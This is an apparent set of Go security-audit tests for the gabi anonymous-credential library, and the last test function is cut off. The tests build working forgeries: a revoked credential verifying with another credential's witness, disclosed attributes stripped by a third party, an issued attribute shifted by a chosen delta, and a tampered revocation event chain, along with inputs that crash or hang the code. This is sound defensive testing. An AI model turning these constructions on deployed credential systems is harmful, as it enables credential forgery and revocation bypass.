	require.NoError(t, witnessB.Verify(testPubK))

	// The cheating holder: credential A, carrying B's witness. NonrevIndex() now finds e_B at index 0.
	cheat := &Credential{
		Signature:            credA.Signature,
		Pk:                   testPubK,
		Attributes:           credA.Attributes,
		NonRevocationWitness: witnessB,
	}
	idx, err := cheat.NonrevIndex()
	require.NoError(t, err)
	require.Equal(t, 0, idx)

	nonce, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	builder, err := cheat.CreateDisclosureProofBuilder([]int{1, 2}, nil, true)
	require.NoError(t, err)
	// the secret key randomizer is the (short) randomizer of the non-revocation proof
	randomizers := map[string]*big.Int{"secretkey": builder.nonrevBuilder.randomizer}
	challenge, err := ProofBuilderList{builder}.ChallengeWithRandomizers(context, nonce, randomizers, false)
	require.NoError(t, err)
	proofd := builder.CreateProof(challenge).(*ProofD)

	// index 5 is A's revocation attribute (hidden, with a long randomizer); it is the revoked one
	require.Zero(t, credA.Attributes[5].Cmp(witnessA.E))
	require.NotNil(t, proofd.AResponses[5])
	require.True(t, proofd.HasNonRevocationProof())

	accepted := ProofList{proofd}.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce, false, nil)
	require.False(t, accepted, "revoked credential A was accepted as NOT revoked (nonrev proof linked to the secret key, witness of credential B)")
}

// ---------------------------------------------------------------------------------------------------------------
// Area 1/6: the disclosed attributes (values and index set) are not part of the challenge hash; only the
// verification equation binds them. Consequence (a concrete accepted ambiguity, in the harmless direction): anyone
// who sees a ProofD - not only the holder - can turn a disclosed attribute a_j into a "hidden" one with response
// c*a_j; the reconstructed Z and hence the challenge do not change. For an attribute-based signature (issig) this
// means a third party can strip disclosed attributes from a signature and it stays valid for the same message.
// The test FAILS if the transformed proof is accepted.
// ---------------------------------------------------------------------------------------------------------------
func TestHuntDisclosedAttributeStrippedByThirdParty(t *testing.T) {
	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK.Params.Lm)
	require.NoError(t, err)
	cred := createCredential(t, context, secret, NewIssuer(testPrivK, testPubK, context))

	builder, err := cred.CreateDisclosureProofBuilder([]int{1, 2}, nil, false)
	require.NoError(t, err)
	pl, err := ProofBuilderList{builder}.BuildProofList(context, nonce, true) // a signature
	require.NoError(t, err)
	require.True(t, pl.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce, true, nil))

	// the third party: only sees the proof
	orig := pl[0].(*ProofD)
	stripped := &ProofD{
		C: orig.C, A: orig.A, EResponse: orig.EResponse, VResponse: orig.VResponse,
		AResponses: map[int]*big.Int{}, ADisclosed: map[int]*big.Int{},
	}
	for i, r := range orig.AResponses {
		stripped.AResponses[i] = r
	}
	stripped.ADisclosed[1] = orig.ADisclosed[1]
	stripped.AResponses[2] = new(big.Int).Mul(orig.C, orig.ADisclosed[2]) // attribute 2 is no longer disclosed

	accepted := ProofList{stripped}.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce, true, nil)
	require.False(t, accepted, "signature with attribute 2 stripped by a third party is still valid (same challenge)")
}

// ---------------------------------------------------------------------------------------------------------------
// Coverage probe for the main package: a list [ProofD with non-revocation proof and two range proofs, ProofD,
// ProofU] is verified; then every number in it is changed, one at a time, as well as the small integers of the range
// proofs. Anything whose change leaves the list valid is not bound. PASSES on the unchanged tree (documentation).
// ---------------------------------------------------------------------------------------------------------------
type huntSlot struct {
	path string
	v    *big.Int
}

func huntCollect(v reflect.Value, path string, out *[]huntSlot) {
	switch v.Kind() {
	case reflect.Interface:
		if !v.IsNil() {
			huntCollect(v.Elem(), path, out)
		}
	case reflect.Ptr:
		if v.IsNil() {
			return
		}
		if b, ok := v.Interface().(*big.Int); ok {
			*out = append(*out, huntSlot{path, b})
			return
		}
		huntCollect(v.Elem(), path, out)
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if !v.Type().Field(i).IsExported() {
				continue
			}
			huntCollect(v.Field(i), path+"."+v.Type().Field(i).Name, out)
		}
	case reflect.Slice:
		for i := 0; i < v.Len(); i++ {
			huntCollect(v.Index(i), fmt.Sprintf("%s[%d]", path, i), out)
		}
	case reflect.Map:
		for _, k := range v.MapKeys() {
			huntCollect(v.MapIndex(k), fmt.Sprintf("%s{%v}", path, k), out)
		}
	}
}

func TestHuntProofListMutationCoverage(t *testing.T) {
	witness, _, _ := setupRevocation(t, testPrivK, testPubK)
	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK.Params.Lm - 1)
	require.NoError(t, err)

	attrs := revocationAttrs(witness)
	cred1 := createKeyshareCredential(t, context, secret, nil, attrs, NewIssuer(testPrivK, testPubK, context))
	cred1.NonRevocationWitness = witness
	cred2 := createKeyshareCredential(t, context, secret, nil, testAttributes2, NewIssuer(testPrivK1, testPubK1, context))

	st1, err := rangeproof.NewStatement(rangeproof.GreaterOrEqual, big.NewInt(5))
	require.NoError(t, err)
	st2, err := rangeproof.NewStatement(rangeproof.LesserOrEqual, new(big.Int).Add(attrs[2], big.NewInt(1000)))
	require.NoError(t, err)
	st2.Splitter = squaresTable
	b1, err := cred1.CreateDisclosureProofBuilder([]int{1}, map[int][]*rangeproof.Statement{2: {st1}, 3: {st2}}, true)
	require.NoError(t, err)
	b2, err := cred2.CreateDisclosureProofBuilder([]int{2, 3}, nil, false)
	require.NoError(t, err)
	nonce2, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	b3, err := NewCredentialBuilder(testPubK2, context, secret, nonce2, nil, []int{1})
	require.NoError(t, err)

	pl, err := ProofBuilderList{b1, b2, b3}.BuildProofList(context, nonce, false)
	require.NoError(t, err)
	pks := []*gabikeys.PublicKey{testPubK, testPubK1, testPubK2}
	verify := func() (ok bool) {
		defer func() {
			if r := recover(); r != nil {
				ok = false
			}
		}()
		return pl.Verify(pks, context, nonce, false, nil)
	}
	require.True(t, verify())

	var slots []huntSlot
	huntCollect(reflect.ValueOf(&pl), "pl", &slots)
	var unbound []string
	for _, sl := range slots {
		if strings.Contains(sl.path, ".SignedAccumulator.") {
			continue // ECDSA-signed blob
		}
		if strings.HasSuffix(sl.path, ".MResponse") {
			continue // not transmitted (json:"-"), overwritten by the verifier with AResponses[index]
		}
		backup := new(big.Int).Set(sl.v)
		sl.v.Add(sl.v, big.NewInt(1))
		if verify() {
			unbound = append(unbound, sl.path)
		}
		sl.v.Set(backup)
	}
	t.Logf("%d numbers probed", len(slots))

	// small integers of the range proofs
	pd := pl[0].(*ProofD)
	for idx, rps := range pd.RangeProofs {
		for i, rp := range rps {
			rp.Ld++
			if verify() {
				unbound = append(unbound, fmt.Sprintf("RangeProofs{%d}[%d].Ld", idx, i))
			}
			rp.Ld--
			rp.A++
			if verify() {
				unbound = append(unbound, fmt.Sprintf("RangeProofs{%d}[%d].A", idx, i))
			}
			rp.A--
			rp.Sign = -rp.Sign
			if verify() {
				unbound = append(unbound, fmt.Sprintf("RangeProofs{%d}[%d].Sign", idx, i))
			}
			rp.Sign = -rp.Sign
		}
	}
	// the index a range proof is attached to
	pd.RangeProofs[2], pd.RangeProofs[3] = pd.RangeProofs[3], pd.RangeProofs[2]
	if verify() {
		unbound = append(unbound, "RangeProofs: index 2 <-> 3")
	}
	pd.RangeProofs[2], pd.RangeProofs[3] = pd.RangeProofs[3], pd.RangeProofs[2]
	// the order of the proofs / keys
	pl[0], pl[1] = pl[1], pl[0]
	pks[0], pks[1] = pks[1], pks[0]
	if verify() {
		unbound = append(unbound, "order of proofs in the list")
	}
	pl[0], pl[1] = pl[1], pl[0]
	pks[0], pks[1] = pks[1], pks[0]
	// signature flag
	if pl.Verify(pks, context, nonce, true, nil) {
		unbound = append(unbound, "issig")
	}

	require.True(t, verify())
	for _, p := range unbound {
		t.Logf("NOT BOUND: %s", p)
	}
	require.Empty(t, unbound)
}

// ---------------------------------------------------------------------------------------------------------------
// Area 2: the set of indices in ProofU.MUserResponses (the "random blind" attributes the user contributes to) is
// neither hashed nor compared with anything by the library: ProofU.Verify / ProofList.Verify accept a ProofU with
// user shares at ANY attribute index, and Issuer.IssueSignature takes the blind indices from the issuer's side only.
// Hashing the index set would not help; the issuer has to compare it with its own list, and gabi offers no call for
// that. If the calling code does not do it, a user adds R_i^delta to U and obtains a signature on
// (issuer's value + delta) at an ordinary attribute i.
// The test FAILS if the issuance flow as used in gabi's own tests hands out a signature that verifies on an
// attribute value the issuer never signed.
// ---------------------------------------------------------------------------------------------------------------
func TestHuntProofUShareAtNonBlindIndexShiftsIssuedAttribute(t *testing.T) {
	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce1, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	nonce2, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK.Params.Lm)
	require.NoError(t, err)

	// the issuer will put testAttributes1[1] ("two") at attribute index 2; the user wants "two" + delta there
	delta := big.NewInt(1000000)
	cb, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, []int{1})
	require.NoError(t, err)
	cb.mUser[2] = delta
	cb.u = userCommitment(testPubK, secret, cb.vPrime, cb.mUser)
	commitMsg, err := cb.CommitToSecretAndProve(nonce1)
	require.NoError(t, err)

	// the issuer: no random blind attributes in this credential
	issuer := NewIssuer(testPrivK, testPubK, context)
	require.True(t, commitMsg.Proofs.Verify([]*gabikeys.PublicKey{testPubK}, context, nonce1, false, nil),
		"the library rejects the ProofU - good")
	msg, err := issuer.IssueSignature(commitMsg.U, testAttributes1, nil, nonce2, nil)
	require.NoError(t, err)

	// the user assembles the credential
	ms := append([]*big.Int{secret}, testAttributes1...)
	ms[2] = new(big.Int).Add(testAttributes1[1], delta)
	sig := &CLSignature{A: msg.Signature.A, E: msg.Signature.E, V: new(big.Int).Add(msg.Signature.V, cb.vPrime)}
	forged := sig.Verify(testPubK, ms)
	if forged {
		cred := &Credential{Signature: sig, Pk: testPubK, Attributes: ms}
		nonce, _ := common.RandomBigInt(testPubK.Params.Lstatzk)
		proofd, err := cred.CreateDisclosureProof([]int{2}, nil, false, context, nonce)
		require.NoError(t, err)
		require.True(t, proofd.Verify(testPubK, context, nonce, false))
		require.Zero(t, proofd.ADisclosed[2].Cmp(ms[2]))
	}
	require.False(t, forged, "user holds a valid signature on attribute 2 = issuer's value + 1000000")
}
