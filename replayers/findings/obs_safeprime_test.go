package safeprime

import (
	"runtime"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
)

func TestHuntGenerateSmallSizes(t *testing.T) {
	// safe primes: 5, 7 (3 bits), 11 (4 bits), 23 (5 bits), 47, 59 (6 bits), 83, 107 (7 bits)
	for _, bits := range []int{3, 4, 5, 6, 7, 8} {
		stop := make(chan struct{})
		type res struct {
			x   *big.Int
			err error
			pan any
		}
		ch := make(chan res, 1)
		go func() {
			var r res
			defer func() { r.pan = recover(); ch <- r }()
			r.x, r.err = Generate(bits, stop)
		}()
		select {
		case r := <-ch:
			if r.pan != nil || r.err != nil {
				t.Errorf("Generate(%d): panic=%v err=%v", bits, r.pan, r.err)
			} else if r.x.BitLen() != bits || !ProbablySafePrime(r.x, 20) {
				t.Errorf("Generate(%d) = %v", bits, r.x)
			}
		case <-time.After(5 * time.Second):
			close(stop)
			<-ch
			t.Errorf("Generate(%d) does not terminate although a safe prime of %d bits exists", bits, bits)
		}
	}
}

func TestHuntGenerateTinySizes(t *testing.T) {
	for _, bits := range []int{2, 1, 0, -1} {
		stop := make(chan struct{})
		ch := make(chan any, 1)
		go func() {
			defer func() { ch <- recover() }()
			Generate(bits, stop)
		}()
		select {
		case p := <-ch:
			if p != nil {
				t.Errorf("Generate(%d) panics: %v", bits, p)
			}
		case <-time.After(3 * time.Second):
			close(stop)
			<-ch
			t.Errorf("Generate(%d) does not terminate (no error returned for an impossible size)", bits)
		}
	}
}

func TestHuntProbablySafePrime(t *testing.T) {
	want := map[int64]bool{5: true, 7: true, 11: true, 23: true, 47: true, 59: true, 83: true, 107: true}
	for x := int64(-10); x < 120; x++ {
		if got := ProbablySafePrime(big.NewInt(x), 20); got != want[x] {
			t.Errorf("ProbablySafePrime(%d)=%v", x, got)
		}
	}
	for _, n := range []int{0, -1} {
		var pan any
		var got bool
		func() {
			defer func() { pan = recover() }()
			got = ProbablySafePrime(big.NewInt(15), n) // 15 = 3*5 is not prime
		}()
		t.Logf("ProbablySafePrime(15, %d): %v panic=%v", n, got, pan)
	}
	// Baillie-PSW only (n = 0) is still right for small values
	if ProbablySafePrime(big.NewInt(21), 0) {
		t.Errorf("21 safe prime")
	}
}

func TestHuntGenerateConcurrentLeak(t *testing.T) {
	before := runtime.NumGoroutine()
	stop := make(chan struct{})
	ints, _ := GenerateConcurrent(32, stop)
	// a slow consumer: take one value, then let the producers fill the buffer
	<-ints
	time.Sleep(1 * time.Second)
	close(stop)
	time.Sleep(2 * time.Second)
	after := runtime.NumGoroutine()
	if after > before {
		t.Errorf("GenerateConcurrent: %d goroutines still alive 2s after stop was closed (before: %d, now: %d); they block on the full ints channel", after-before, before, after)
	}
}

func TestHuntGenerateConcurrentStopSend(t *testing.T) {
	// documented: "until the stop channel receives a struct or is closed"
	before := runtime.NumGoroutine()
	stop := make(chan struct{})
	ints, _ := GenerateConcurrent(32, stop)
	done := make(chan struct{})
	go func() {
		for {
			select {
			case <-ints:
			case <-done:
				return
			}
		}
	}()
	time.Sleep(200 * time.Millisecond)
	select {
	case stop <- struct{}{}:
	case <-time.After(2 * time.Second):
		t.Errorf("sending on stop blocks")
	}
	time.Sleep(2 * time.Second)
	close(done)
	time.Sleep(100 * time.Millisecond)
	after := runtime.NumGoroutine()
	if after > before {
		t.Errorf("goroutines alive after stop by send: before %d now %d", before, after)
	}
}
