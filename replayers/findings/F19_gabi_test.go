package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/stretchr/testify/require"
)

// F19: a CL signature checked against a message block with more messages than the key has bases makes Verify (and
// SignMessageBlock) panic with an index out of range instead of reporting "does not verify" / an error.
func TestF19(t *testing.T) {
	sig, err := SignMessageBlock(testPrivK, testPubK, testAttributes1)
	require.NoError(t, err)
	long := make([]*big.Int, len(testPubK.R)+1)
	for i := range long {
		long[i] = big.NewInt(int64(i + 1))
	}
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("Verify panicked on a block of %d messages for %d bases: %v", len(long), len(testPubK.R), r)
			}
		}()
		require.False(t, sig.Verify(testPubK, long))
	}()
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("SignMessageBlock panicked on a block of %d messages for %d bases: %v", len(long), len(testPubK.R), r)
			}
		}()
		_, err := SignMessageBlock(testPrivK, testPubK, long)
		require.Error(t, err)
	}()
}
