package common

import (
	"crypto/rand"
	"testing"

	"github.com/privacybydesign/gabi/big"
)

// GetHashNumber "generates random numbers of a given bit-length", but it concatenates whole SHA-256 outputs and never
// cuts the result down: for every bitlen that is not a multiple of 256 the number has up to 256*ceil(bitlen/256) bits.
// (Prover and verifier in keyproof compute the same value, so this is a wrong value with respect to the contract of
// the function, not a wrong acceptance: e.g. for a modulus of 1000 bits the "challenge below 2^1000" has 1024 bits,
// for the prime proof with bitlen 500 the offset aAdd has 512 bits.)
func TestHuntGetHashNumberBitLength(t *testing.T) {
	for _, bitlen := range []uint{1, 8, 100, 255, 257, 500, 1000} {
		max := 0
		for i := 0; i < 20; i++ {
			n := GetHashNumber(big.NewInt(12345), nil, i, bitlen)
			if n.BitLen() > max {
				max = n.BitLen()
			}
		}
		if uint(max) > bitlen {
			t.Errorf("GetHashNumber(..., bitlen=%d) returned a number of %d bits", bitlen, max)
		}
	}
}

// RandomPrimeInRange(rand, start, length): for length == 0 the byte buffer has (0+7)/8 = 0 bytes and bytes[0] is
// indexed; for length > MaxUint-7 the sum length+7 wraps and the buffer is empty as well. Reached from
// signMessageBlockAndCommitment with LePrime-1 and from RandomWitness with Parameters.AttributeSize - with the default
// parameters (119, 195) neither happens; system parameters with LePrime = 1 make every issuance panic.
func TestHuntRandomPrimeInRangeZeroLength(t *testing.T) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("RandomPrimeInRange(rand, 4, 0) panics instead of returning an error: %v", r)
		}
	}()
	p, err := RandomPrimeInRange(rand.Reader, 4, 0)
	t.Logf("p=%v err=%v", p, err)
}
