package revocation

import (
	"testing"

	"github.com/fxamacker/cbor"
	"github.com/privacybydesign/gabi/big"
	"github.com/stretchr/testify/require"
)

// F27: the byte string hashed for an event is index || parent hash || value, without length framing, and the parent hash of
// the FIRST event of a list is compared with nothing. Moving bytes from the value into the parent hash of the first event
// therefore keeps every hash of the chain: an update altered on its way (without the issuer's key) still verifies, and
// reports a different revocation value for that event.
func TestF27(t *testing.T) {
	update, pk, _, _ := generateUpdate(t)
	// a window that does not start at the initial event: its first event carries a real revocation value
	window := &Update{SignedAccumulator: update.SignedAccumulator, Events: update.Events[2:]}
	bts, err := cbor.Marshal(window, cbor.EncOptions{})
	require.NoError(t, err)

	fresh := func(b []byte) *Update {
		u := &Update{}
		require.NoError(t, cbor.Unmarshal(b, u))
		return u
	}
	_, err = fresh(bts).Verify(pk)
	require.NoError(t, err, "authentic window verifies")

	forged := fresh(bts)
	first := forged.Events[0]
	e := first.E.Bytes()
	orig := new(big.Int).Set(first.E)
	first.ParentHash = append(append(Hash{}, first.ParentHash...), e[:3]...)
	first.E = new(big.Int).SetBytes(e[3:])
	require.NotEqual(t, 0, orig.Cmp(first.E), "the forged event carries another value")
	fbts, err := cbor.Marshal(forged, cbor.EncOptions{})
	require.NoError(t, err)

	_, err = fresh(fbts).Verify(pk)
	require.Error(t, err, "an update whose first event was altered (value %s instead of %s) verifies", first.E, orig)
}
