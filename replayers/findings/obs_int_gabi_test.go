package gabi

import (
	"fmt"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
)

func huntRecover(f func()) (panicked any) {
	defer func() { panicked = recover() }()
	f()
	return nil
}

// IssueSignature indexes attributes[j] and ms[j+1] with the random blind indices without looking at them. The client
// side (NewCredentialBuilder) checks the same list; the issuer side panics on an index that is negative or equal to
// len(attributes) instead of returning an error.
func TestHuntIssueSignatureBlindIndex(t *testing.T) {
	issuer := NewIssuer(testPrivK, testPubK, big.NewInt(1))
	U := new(big.Int).Exp(testPubK.S, big.NewInt(12345), testPubK.N)
	attrs := []*big.Int{big.NewInt(1), nil, big.NewInt(3)}

	// sanity: a correct index works
	if _, err := issuer.IssueSignature(U, attrs, nil, big.NewInt(7), []int{1}); err != nil {
		t.Fatalf("blind index 1: %v", err)
	}
	for _, j := range []int{-1, len(attrs), len(attrs) + 5} {
		var err error
		p := huntRecover(func() {
			_, err = issuer.IssueSignature(U, attrs, nil, big.NewInt(7), []int{j})
		})
		if p != nil {
			t.Errorf("blind index %d with %d attributes: panic instead of error: %v", j, len(attrs), p)
		} else if err == nil {
			t.Errorf("blind index %d with %d attributes accepted", j, len(attrs))
		}
	}
}

// A public key file with <Bases num="0"/> is decoded by NewPublicKeyFromBytes (pubk.R is an empty, non-nil slice).
// ProofU.checkStructure compares the indices of the proof with len(pk.R) but index 0 (the secret key base) is used
// unconditionally: verification of any ProofU against that key panics with index out of range; so do
// NewCredentialBuilder, NewKeyshareCommitments and KeyshareResponse.
func TestHuntPublicKeyWithoutBases(t *testing.T) {
	xml := fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<IssuerPublicKey xmlns="http://www.zurich.ibm.com/security/idemix">
   <Counter>0</Counter>
   <ExpiryDate>1700000000</ExpiryDate>
   <Elements>
      <n>%v</n>
      <Z>%v</Z>
      <S>%v</S>
      <Bases num="0"></Bases>
   </Elements>
   <Features><Epoch length="432000"></Epoch></Features>
</IssuerPublicKey>`, testPubK.N, testPubK.Z, testPubK.S)
	pk, err := gabikeys.NewPublicKeyFromBytes([]byte(xml))
	if err != nil {
		t.Logf("key without bases is refused: %v", err)
		return
	}
	t.Logf("key without bases accepted, len(pk.R) = %d", len(pk.R))

	proofU := &ProofU{U: big.NewInt(2), C: big.NewInt(3), VPrimeResponse: big.NewInt(4), SResponse: big.NewInt(5)}
	if p := huntRecover(func() { proofU.Verify(pk, big.NewInt(1), big.NewInt(1)) }); p != nil {
		t.Errorf("ProofU.Verify against the decoded key panics: %v", p)
	}
	if p := huntRecover(func() {
		_, _ = NewCredentialBuilder(pk, big.NewInt(1), big.NewInt(2), big.NewInt(3), nil, nil)
	}); p != nil {
		t.Errorf("NewCredentialBuilder with the decoded key panics: %v", p)
	}
	if p := huntRecover(func() {
		_, _, _ = NewKeyshareCommitments(big.NewInt(2), []*gabikeys.PublicKey{pk})
	}); p != nil {
		t.Errorf("NewKeyshareCommitments with the decoded key panics: %v", p)
	}
}
