package keyproof

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
)

// NewValidKeyProofStructure(N, bases) derives bitlen = uint((N.BitLen()+1)/2) and newExpProofStructure loops
// "for i := uint(0); i < bitlen-1; i++". For a modulus of bit length 0 (N = 0, e.g. out of a key file that is to be
// checked) bitlen-1 wraps to 2^64-1: the constructor appends Pedersen structures until memory is exhausted instead of
// returning (the verifier never gets as far as rejecting the key).
//
// The constructor is run in a child process that stops itself after 250 ms or 64 MB of heap.
func TestHuntValidKeyProofStructureZeroModulus(t *testing.T) {
	if os.Getenv("HUNT_CHILD_ZERO_MODULUS") == "1" {
		go func() {
			start := time.Now()
			var ms runtime.MemStats
			for {
				time.Sleep(5 * time.Millisecond)
				runtime.ReadMemStats(&ms)
				if ms.HeapAlloc > 64<<20 || time.Since(start) > 250*time.Millisecond {
					fmt.Printf("STILL-LOOPING after %v, heap %d MB\n", time.Since(start).Round(time.Millisecond), ms.HeapAlloc>>20)
					os.Exit(3)
				}
			}
		}()
		NewValidKeyProofStructure(big.NewInt(0), nil)
		fmt.Println("RETURNED")
		os.Exit(0)
	}

	N := big.NewInt(0)
	bitlen := uint((N.BitLen() + 1) / 2)
	t.Logf("N = 0: bitlen = %d, loop bound bitlen-1 = %d", bitlen, bitlen-1)

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], "-test.run=^TestHuntValidKeyProofStructureZeroModulus$", "-test.count=1")
	cmd.Env = append(os.Environ(), "HUNT_CHILD_ZERO_MODULUS=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Errorf("NewValidKeyProofStructure(0, nil) does not return (loop bound %d): %v: %s", bitlen-1, err, out)
	}
}
