package revocation

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/require"
)

// F41: FlattenEventLists marked its result as verified whatever it was given: two decoded lists with a gap between them
// (the event in the middle dropped) were merged into a list that EventList.Verify accepts by looking at its last event only.
func TestF41(t *testing.T) {
	update, _, _, acc := generateUpdate(t)
	require.Len(t, update.Events, 4)
	decode := func(events []*Event) *EventList {
		bts, err := json.Marshal(NewEventList(events...))
		require.NoError(t, err)
		el := &EventList{ComputeProduct: true}
		require.NoError(t, json.Unmarshal(bts, el))
		return el
	}
	// authentic parts: events 0..1 and event 3; event 2 (a revocation) is withheld
	flat, err := FlattenEventLists([]*EventList{decode(update.Events[0:2]), decode(update.Events[3:4])})
	if err != nil {
		return // refused: fine
	}
	require.Error(t, flat.Verify(acc), "a merged event list with a dropped event verifies")
}
