package gabikeys_test

import (
	"strings"
	"testing"

	"github.com/privacybydesign/gabi/gabikeys"
)

// F21: Bases.UnmarshalXML ignores the names of the base elements: a key file whose bases are numbered wrongly
// (Base_0 and Base_5 swapped, or an element that is not a Base_i at all) loads without error and R[i] is simply
// the i-th child, so two bases silently trade places.
func TestF21(t *testing.T) {
	swapped := strings.NewReplacer("<Base_0>", "<Base_X>", "</Base_0>", "</Base_X>").Replace(xmlPubKey1)
	swapped = strings.NewReplacer("<Base_5>", "<Base_0>", "</Base_5>", "</Base_0>").Replace(swapped)
	swapped = strings.NewReplacer("<Base_X>", "<Base_5>", "</Base_X>", "</Base_5>").Replace(swapped)
	if _, err := gabikeys.NewPublicKeyFromXML(swapped); err == nil {
		t.Errorf("key with Base_0 and Base_5 swapped was accepted")
	}
	foo := strings.NewReplacer("<Base_3>", "<Foo>", "</Base_3>", "</Foo>").Replace(xmlPubKey1)
	if _, err := gabikeys.NewPublicKeyFromXML(foo); err == nil {
		t.Errorf("key with an element <Foo> among the bases was accepted")
	}
	if _, err := gabikeys.NewPublicKeyFromXML(xmlPubKey1); err != nil {
		t.Errorf("well-formed key refused: %v", err)
	}
}
