package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/stretchr/testify/require"
)

// F28: CLSignature.Randomize dropped the keyshare contribution. A signature issued over (R_0^keyshare * messages), which
// verifies only together with its KeyshareP, no longer verified after randomisation ("remains valid after randomisation").
func TestF28(t *testing.T) {
	ksSecret, err := common.RandomBigInt(testPubK.Params.Lm - 1)
	require.NoError(t, err)
	keyshareP := new(big.Int).Exp(testPubK.R[0], ksSecret, testPubK.N)
	msgs := []*big.Int{big.NewInt(11), big.NewInt(22), big.NewInt(33)}

	// the issuer signs U * prod R_i^{m_i} with U = KeyshareP
	signature, err := signMessageBlockAndCommitment(testPrivK, testPubK, keyshareP, msgs)
	require.NoError(t, err)
	signature.KeyshareP = keyshareP
	require.True(t, signature.Verify(testPubK, msgs), "keyshare signature verifies with its contribution")

	randomized, err := signature.Randomize(testPubK)
	require.NoError(t, err)
	require.True(t, randomized.Verify(testPubK, msgs), "the randomised keyshare signature does not verify")
}
