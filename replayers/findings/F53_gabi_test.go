package gabi

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
)

func huntRecover(t *testing.T, what string) {
	if r := recover(); r != nil {
		t.Errorf("PANIC in %s: %v", what, r)
	}
}

func huntWatchdog(t *testing.T, d time.Duration, what string, f func()) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer huntRecover(t, what)
		f()
	}()
	select {
	case <-done:
	case <-time.After(d):
		t.Errorf("HANG in %s (more than %v)", what, d)
	}
}

var huntTable = rangeproof.GenerateSquaresTable(65535)

func huntCred(t *testing.T, attrs []*big.Int) (*Credential, *big.Int) {
	ctx, _ := common.RandomBigInt(testPubK1.Params.Lh)
	secret, _ := common.RandomBigInt(testPubK1.Params.Lm - 1)
	issuer := NewIssuer(testPrivK1, testPubK1, ctx)
	cred := createKeyshareCredential(t, ctx, secret, nil, attrs, issuer)
	if cred == nil {
		t.Fatal("no credential")
	}
	return cred, ctx
}

func huntStmt(sign int, factor uint, bound int64, sp rangeproof.SquareSplitter) *rangeproof.Statement {
	return &rangeproof.Statement{Sign: sign, Factor: factor, Bound: big.NewInt(bound), Splitter: sp}
}

func huntJSON(t *testing.T, p *ProofD) *ProofD {
	bts, err := json.Marshal(p)
	if err != nil {
		t.Errorf("marshal: %v", err)
		return nil
	}
	q := &ProofD{}
	if err = json.Unmarshal(bts, q); err != nil {
		t.Errorf("unmarshal: %v", err)
		return nil
	}
	return q
}

// prove, send through JSON, verify, and ask the helpers
func huntProveVerify(t *testing.T, name string, cred *Credential, ctx *big.Int, disclosed []int, stmts map[int][]*rangeproof.Statement, viaJSON bool) *ProofD {
	var result *ProofD
	huntWatchdog(t, 120*time.Second, name, func() {
		nonce, _ := common.RandomBigInt(testPubK1.Params.Lstatzk)
		proof, err := cred.CreateDisclosureProof(disclosed, stmts, false, ctx, nonce)
		if err != nil {
			t.Errorf("%s: CreateDisclosureProof: %v", name, err)
			return
		}
		if viaJSON {
			proof = huntJSON(t, proof)
			if proof == nil {
				t.Errorf("%s: JSON", name)
				return
			}
		}
		if !proof.Verify(testPubK1, ctx, nonce, false) {
			t.Errorf("%s: true statements, proof does not verify", name)
			return
		}
		for index, list := range stmts {
			if len(proof.RangeProofs[index]) != len(list) {
				t.Errorf("%s: index %d: %d range proofs for %d statements", name, index, len(proof.RangeProofs[index]), len(list))
				continue
			}
			for i, s := range list {
				if !proof.RangeProofs[index][i].Proves(s) {
					t.Errorf("%s: index %d statement %d not reported as proven", name, index, i)
				}
				typ, f, b := proof.RangeProofs[index][i].ProvenStatement()
				sg, _ := typ.Sign()
				if sg != s.Sign || f != s.Factor || b.Cmp(s.Bound) != 0 {
					t.Errorf("%s: index %d statement %d: ProvenStatement gives sign %d factor %d bound %v", name, index, i, sg, f, b)
				}
			}
		}
		result = proof
	})
	return result
}

func TestHuntRangeCompleteness(t *testing.T) {
	max := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	attrs := []*big.Int{big.NewInt(1000), big.NewInt(0), max, big.NewInt(20250101)}
	cred, ctx := huntCred(t, attrs)
	maxm5 := &rangeproof.Statement{Sign: 1, Factor: 1, Bound: new(big.Int).Sub(max, big.NewInt(5))}
	maxm5t := &rangeproof.Statement{Sign: 1, Factor: 1, Bound: new(big.Int).Sub(max, big.NewInt(5)), Splitter: huntTable}
	maxeq := &rangeproof.Statement{Sign: -1, Factor: 1, Bound: new(big.Int).Set(max)}
	max0 := &rangeproof.Statement{Sign: 1, Factor: 1, Bound: big.NewInt(0)}
	for _, viaJSON := range []bool{false, true} {
